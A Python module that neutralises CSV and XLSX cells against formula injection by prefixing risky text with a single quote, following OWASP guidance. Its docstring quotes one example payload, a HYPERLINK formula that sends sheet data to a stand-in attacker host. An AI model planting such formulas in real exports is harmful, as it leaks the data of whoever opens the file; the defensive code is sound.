"""Every cell the console writes into a CSV or XLSX file goes through here.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and tab or carriage
return can smuggle one in), so a customer named `=HYPERLINK("http://evil.example/?d="&A1,"x")` would
phone home with the sheet's data when the partner opens an export. Following OWASP's CSV injection
guidance, text that starts with one of those characters is prefixed with a single quote; numbers stay
numbers (an amount of -5.00 is a number, not a formula), dates stay dates.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.utils import timezone

#: The characters a spreadsheet reads as the start of a formula (OWASP: CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Excel cannot show more characters in a cell; longer texts are cut.
XLSX_CELL_LIMIT = 32767


def neutralise(text: str) -> str:
    """`text` as a spreadsheet shows it and never runs it."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def csv_cell(value: Any) -> str:
    """One CSV cell: numbers as plain digits ("-5.00", never "-5E+0"), dates in ISO, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, Decimal):
        return f"{value:f}"
    if _is_number(value):
        return str(value)
    if isinstance(value, datetime):
        return timezone.localtime(value).strftime("%Y-%m-%d %H:%M") if timezone.is_aware(value) else value.isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return neutralise(str(value))


def xlsx_cell(value: Any) -> Any:
    """One XLSX cell value: numbers and dates as themselves (Excel computes with them), text neutralised
    and cut to what Excel holds. openpyxl stores a string starting with "=" as a formula: never here."""
    if value is None or isinstance(value, bool) or _is_number(value):
        return value
    if isinstance(value, datetime):
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, date):
        return value
    return neutralise(str(value))[:XLSX_CELL_LIMIT]


class _Echo:
    """A file-like object whose write returns the line, so csv.writer feeds a generator."""

    def write(self, value: str) -> str:
        return value


def csv_row(values: Sequence[Any]) -> str:
    """One line of CSV, every cell through `csv_cell`."""
    return csv.writer(_Echo()).writerow([csv_cell(value) for value in values])


def csv_lines(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, byte_order_mark: bool = True) -> Iterator[str]:
    """The lines of a CSV file, for a streamed response."""
    writer = csv.writer(_Echo())
    if byte_order_mark:
        yield "\ufeff"  # so spreadsheet programs read the file as UTF-8
    yield writer.writerow([csv_cell(column) for column in header])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_bytes(header: Sequence[Any], rows: Iterable[Sequence[Any]] = ()) -> bytes:
    """A whole (small) CSV file in UTF-8 with a byte order mark."""
    output = io.StringIO()
    for line in csv_lines(header, rows):
        output.write(line)
    return output.getvalue().encode("utf-8")
